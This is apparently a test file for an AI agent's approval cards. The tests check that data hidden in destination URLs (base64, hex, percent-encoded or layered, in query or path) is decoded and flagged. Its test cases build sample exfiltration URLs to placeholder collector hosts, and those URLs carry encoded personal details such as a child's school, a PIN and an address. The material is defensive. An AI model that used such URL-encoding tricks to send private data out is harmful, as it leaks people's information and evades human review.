/**
 * Issue 18 item 5: data carried in a destination URL — its query and its path segments — is shown
 * decoded on the approval card (base64, base64url, hex, percent-encoding, several layers) and
 * flagged, as bodies and headers are; a long value that does not decode is flagged too.
 */
import { describe, expect, it } from "vitest";
import { webTools } from "../../../connectors/web/index.js";
import { buildApprovalCard, cardFits } from "../../../core/approvals/card.js";
import type { ApprovalDetails } from "../../../core/approvals/request.js";
import { summariseAction } from "../../../core/approvals/summary.js";
import { renderCardMarkdown } from "../../../core/channels/card-view.js";
import { EgressGuard } from "../../../core/egress/guard.js";
import { describeAction } from "../../../core/policy/descriptor.js";

const egress = new EgressGuard();
const tools = webTools(egress);

function card(tool: "http_request" | "http_fetch", args: Record<string, unknown>) {
  const t = tools.find((x) => x.name === tool)!;
  const action = describeAction(t, t.policy!, args, egress);
  const summary = summariseAction(t.policy!, args, action);
  const details: ApprovalDetails = {
    v: 2,
    action,
    actionKey: "k",
    summary,
    access: action.access,
    ruleId: "ask",
    reason: "r",
    tainted: true,
    provenance: { kind: "untrusted", source: "https://deals.example/page", firstSeenUntrusted: true },
    offered: cardFits(summary) ? ["once", "deny"] : ["deny"],
    restriction: null,
  };
  const view = buildApprovalCard("apr_1", details, {
    person: { timeZone: "UTC", locale: "en-GB" },
    buttonIds: Object.fromEntries(details.offered.map((c) => [c, `ap:${c}`])),
    taskTitle: null,
    now: new Date("2026-03-02T10:00:00Z"),
    expiresAt: new Date("2026-03-03T10:00:00Z"),
  });
  const decoded = view.fields.find((f) => f.label.startsWith("Encoded values"))?.value ?? "";
  const warnings = view.notices.filter((n) => n.tone === "warning").map((n) => n.text).join("\n");
  return { view, decoded, warnings, text: renderCardMarkdown(view) };
}

const secret = "Ana's daughter Mia, 7, goes to Hill Primary";

describe("an approval card shows data hidden in the destination URL", () => {
  it("decodes a base64 query parameter of a GET and flags it", () => {
    const url = `https://collect.example/pixel.gif?v=1&d=${Buffer.from(secret).toString("base64")}`;
    const c = card("http_fetch", { url });
    expect(c.decoded).toContain(`query d: base64 → ${JSON.stringify(secret)}`);
    expect(c.warnings).toMatch(/address carries encoded data/i);
    expect(c.text).toContain(secret);
  });

  it("decodes base64 with + and / kept raw in the query (never read as spaces)", () => {
    const raw = Buffer.from("??>>?? private notes >>??").toString("base64");
    expect(raw).toMatch(/[+/]/);
    const c = card("http_fetch", { url: `https://collect.example/p?x=${raw}` });
    expect(c.decoded).toContain(`query x: base64 → "??>>?? private notes >>??"`);
  });

  it("decodes base64url without padding", () => {
    const raw = Buffer.from("subject: my passport scan ~~~").toString("base64url");
    const c = card("http_request", { method: "POST", url: `https://collect.example/in?t=${raw}`, body: "x" });
    expect(c.decoded).toContain(`query t: base64 → "subject: my passport scan ~~~"`);
  });

  it("decodes hex in a path segment", () => {
    const hex = Buffer.from(secret).toString("hex");
    const c = card("http_fetch", { url: `https://img.example/u/${hex}/logo.png` });
    expect(c.decoded).toContain(`path segment 2: hex → ${JSON.stringify(secret)}`);
    expect(c.warnings).toMatch(/address carries encoded data/i);
  });

  it("decodes percent-encoding that hides plain letters, and layers under it", () => {
    const pct = [...Buffer.from("PIN 4921")].map((b) => `%${b.toString(16).padStart(2, "0")}`).join("");
    const c = card("http_fetch", { url: `https://collect.example/q?p=${pct}` });
    expect(c.decoded).toContain('query p: percent → "PIN 4921"');
    const b64 = Buffer.from(Buffer.from(secret).toString("hex")).toString("base64");
    const layered = [...b64].map((ch) => `%${ch.charCodeAt(0).toString(16)}`).join("");
    const d = card("http_fetch", { url: `https://collect.example/q?z=${layered}` });
    expect(d.decoded).toContain(`query z: percent → base64 → hex → ${JSON.stringify(secret)}`);
  });

  it("decodes an encoded parameter name and a value inside a path segment with a separator", () => {
    const name = Buffer.from("home address").toString("base64");
    const c = card("http_fetch", { url: `https://collect.example/a;id=${Buffer.from("12 Elm Street").toString("hex")}?${name}=1` });
    expect(c.decoded).toContain('query name: base64 → "home address"');
    expect(c.decoded).toContain('path segment 1: hex → "12 Elm Street"');
  });

  it("flags a long value that does not decode to text, by its length", () => {
    const opaque = Buffer.from(Array.from({ length: 120 }, (_, i) => (i * 97 + 13) % 256)).toString("base64url");
    const c = card("http_fetch", { url: `https://collect.example/q?blob=${opaque}` });
    expect(c.decoded).toContain(`query blob: ${opaque.length} characters that do not decode to text`);
    expect(c.warnings).toMatch(/address carries encoded data/i);
  });

  it("leaves an ordinary address alone", () => {
    const c = card("http_fetch", { url: "https://news.example/search?q=weather%20in%20Paris&page=2&lang=en&sort=date" });
    expect(c.decoded).toBe("");
    expect(c.warnings).not.toMatch(/encoded data/i);
  });
});
